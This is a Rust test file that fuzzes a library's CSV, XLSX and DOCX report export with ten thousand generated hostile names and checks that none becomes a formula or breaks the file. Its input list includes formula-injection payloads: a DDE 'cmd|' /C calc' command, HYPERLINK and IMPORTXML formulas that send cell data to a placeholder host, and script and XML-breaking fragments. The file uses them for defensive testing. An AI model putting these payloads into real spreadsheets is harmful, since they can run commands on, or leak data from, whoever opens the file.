//! Ten thousand strings that somebody could type as a name to harm whoever opens the file: none starts a formula, none
//! breaks a row, a cell or the document, and each can be had back.
//!
//! With `HAILONG_HOSTILE` set the files are kept in that folder, to open them with other programs.

use calamine::{Data, Reader};
use hailong::{
    server::report::{self, Block, Paper, Table, docx},
    table::{Cell, Column, Format, Layout, Separator, Writer, recover},
};
use std::io::{Cursor, Read};

const STRINGS: usize = 10_000;

/// What stands before a formula so that a filter does not see it.
const BEFORE: [&str; 20] = [
    "", "", "", " ", "   ", "\t", "\r", "\n", "\r\n", "\u{a0}", "\u{200b}", "\u{feff}", "\u{202e}", "\u{2066}",
    "\u{ad}", "\u{0}", "\u{b}", "'", "\"", "\";",
];
const STARTS: [&str; 14] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "@=", "|", "%", "", ""];
const BODIES: [&str; 24] = [
    "HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")",
    "cmd|' /C calc'!A0",
    "SUM(1;1)*cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "1+1",
    "2026-02-05",
    "1e308",
    "0001",
    "Xã Đa Mai",
    "Ể Ặ Ỗ Ứ ờ ẵ",
    "e\u{302}\u{309} a\u{306}\u{323}",
    "<script>alert(1)</script>",
    "</w:t></w:r></w:p>",
    "]]><!--",
    "&amp;&#60;&lt;",
    "_x0041__x000D_",
    "\"\";\"\"",
    "a;b,c\td\re\nf",
    "\u{1f600}\u{1f468}\u{200d}\u{1f469}",
    "\u{fffd}\u{fffe}\u{ffff}",
    "\u{1}\u{8}\u{1f}\u{7f}\u{85}",
    "\u{2028}\u{2029}",
    "{=1+1}",
    "'=1",
];

fn strings() -> Vec<String> {
    let mut random = fastrand::Rng::with_seed(20_261_122);
    let mut all = Vec::new();
    for before in BEFORE {
        for start in STARTS {
            all.extend(BODIES.iter().map(|body| format!("{before}{start}{body}")));
        }
    }
    while all.len() < STRINGS {
        let noise: String = (0..random.usize(1..40)).map(|_| random.char(..)).collect();
        let before = BEFORE[random.usize(..BEFORE.len())];
        let start = STARTS[random.usize(..STARTS.len())];
        all.push(format!("{before}{start}{noise}"));
    }
    all.retain(|text| !text.is_empty());
    all.truncate(STRINGS);
    all
}

const COLUMNS: &[Column] = &[
    Column {
        title: "Số",
        key: "no",
        width: 8,
        meaning: "Số thứ tự.",
    },
    Column {
        title: "Tên",
        key: "name",
        width: 40,
        meaning: "Một tên bất kỳ.",
    },
    Column {
        title: "Sau",
        key: "after",
        width: 8,
        meaning: "Phải còn nguyên.",
    },
];

fn written(format: Format, strings: &[String]) -> Vec<u8> {
    let mut out = Vec::new();
    let layout = Layout {
        name: "Phiếu",
        columns: COLUMNS,
        about: strings
            .iter()
            .take(50)
            .map(|text| (text.clone(), text.clone()))
            .collect(),
    };
    let mut writer = Writer::begin(format, layout, &mut out).unwrap();
    for (no, text) in (1i64..).zip(strings) {
        writer
            .row(&[no.into(), Cell::Text(text.into()), Cell::text("hết")])
            .unwrap();
    }
    writer.finish().unwrap();
    keep(&format!("hostile-{}.{}", separator(format), format.extension()), &out);
    out
}

fn separator(format: Format) -> &'static str {
    match format {
        Format::Csv(Separator::Comma) => "comma",
        _ => "main",
    }
}

fn keep(name: &str, bytes: &[u8]) {
    if let Some(folder) = std::env::var_os("HAILONG_HOSTILE") {
        std::fs::write(std::path::Path::new(&folder).join(name), bytes).unwrap();
    }
}

/// RFC 4180, written for this test.
fn rows(csv: &str, separator: char) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, csv.chars().peekable());
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            c if c == separator && !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    assert!(!quoted && cell.is_empty() && row.is_empty(), "the last row is whole");
    rows
}

/// What a spreadsheet may take for the beginning of a formula, whatever nobody can see stands before it.
fn is_formula(cell: &str) -> bool {
    let unseen = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
    };
    let seen = cell.trim_start_matches(unseen);
    seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) || cell.starts_with(['\t', '\r', '\n'])
}

#[test]
fn no_string_starts_a_formula_in_csv_and_each_comes_back() {
    let strings = strings();
    assert_eq!(strings.len(), STRINGS);
    assert!(
        strings.iter().filter(|text| is_formula(text)).count() > 3_000,
        "they would if they could"
    );
    for (format, separator) in [(Separator::Semicolon, ';'), (Separator::Comma, ',')] {
        let csv = String::from_utf8(written(Format::Csv(format), &strings)).unwrap();
        let rows = rows(csv.strip_prefix('\u{feff}').unwrap(), separator);
        assert_eq!(rows.len(), STRINGS + 1);
        for ((no, row), text) in (1..).zip(rows.iter().skip(1)).zip(&strings) {
            assert_eq!(
                (row.len(), row[0].as_str(), row[2].as_str()),
                (3, no.to_string().as_str(), "hết"),
                "{text:?}"
            );
            assert!(!is_formula(&row[1]), "{text:?}");
            assert_eq!(recover(&row[1]), text, "row {no}");
        }
    }
}

#[test]
fn no_string_is_a_formula_in_a_spreadsheet_and_each_comes_back() {
    let strings = strings();
    let bytes = written(Format::Xlsx, &strings);
    let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    for name in ["Phiếu", "Định nghĩa"] {
        let formulas = book.worksheet_formula(name).unwrap();
        assert!(formulas.cells().all(|(_, _, formula)| formula.is_empty()), "{name}");
    }
    let sheet = book.worksheet_range("Phiếu").unwrap();
    assert_eq!(sheet.height(), STRINGS + 1);
    for (row, text) in sheet.rows().skip(1).zip(&strings) {
        let Data::String(found) = &row[1] else {
            panic!("{text:?}: {:?}", row[1])
        };
        assert_eq!(found, text);
        assert_eq!(row[2], Data::String("hết".into()), "{text:?}");
    }
}

#[test]
fn no_string_breaks_a_report() {
    let strings = strings();
    let column = |title: &str, width, number| report::Column {
        title: title.to_owned(),
        width,
        number,
    };
    let table = Table {
        caption: strings[0].clone(),
        columns: vec![column("TT", 10, true), column(&strings[1], 90, false)],
        rows: (1..)
            .zip(&strings)
            .map(|(no, text)| vec![no.to_string(), text.clone()])
            .collect(),
        total: false,
    };
    let paper = Paper {
        above: strings[700].clone(),
        body: strings[701].clone(),
        place_and_date: strings[702].clone(),
        title: "BÁO CÁO".into(),
        subject: strings[703].clone(),
        blocks: vec![
            Block::Heading(strings[704].clone()),
            Block::Text(strings[705].clone()),
            Block::Table(table),
        ],
        annex: vec![Block::Note(strings[706].clone())],
        signature: vec![strings[707].clone()],
        receivers: vec![strings[708].clone()],
        footer: strings[709].clone(),
        mark: Some(strings[710].clone()),
    };
    let bytes = docx::write(&paper).unwrap();
    keep("hostile.docx", &bytes);
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut xml = String::new();
    zip.by_name("word/document.xml")
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    let found = texts(&xml);
    for text in &strings {
        let legal: String = text.chars().filter(|c| is_xml(*c)).collect();
        // A parser reads every end of a line as one.
        let legal = legal.replace("\r\n", "\n").replace('\r', "\n");
        if !legal.trim().is_empty() {
            assert!(found.contains(&legal), "{text:?}");
        }
    }
}

/// <https://www.w3.org/TR/xml/#charsets>
fn is_xml(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}

/// The texts of a document's runs, as a parser reads them; stops at what is not well-formed.
fn texts(xml: &str) -> std::collections::HashSet<String> {
    let (mut open, mut found) = (Vec::new(), std::collections::HashSet::new());
    let mut rest = xml;
    while let Some((text, after)) = rest.split_once('<') {
        assert!(!text.contains("]]>") && text.chars().all(is_xml), "{text:?}");
        if open.last() == Some(&"w:t") {
            found.insert(unescape(text).replace("\r\n", "\n").replace('\r', "\n"));
        }
        let (tag, after) = after.split_once('>').expect("a tag ends");
        rest = after;
        let name = tag.trim_end_matches('/').split([' ', '\n']).next().unwrap();
        match (tag.strip_prefix('/'), tag.ends_with('/') || tag.starts_with('?')) {
            (Some(closed), _) => assert_eq!(open.pop(), Some(closed)),
            (None, true) => {}
            (None, false) => open.push(name),
        }
    }
    assert!(open.is_empty(), "{open:?}");
    found
}

fn unescape(text: &str) -> String {
    let text = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"");
    assert!(!text.replace("&amp;", "").contains('&'), "{text:?}");
    text.replace("&amp;", "&")
}
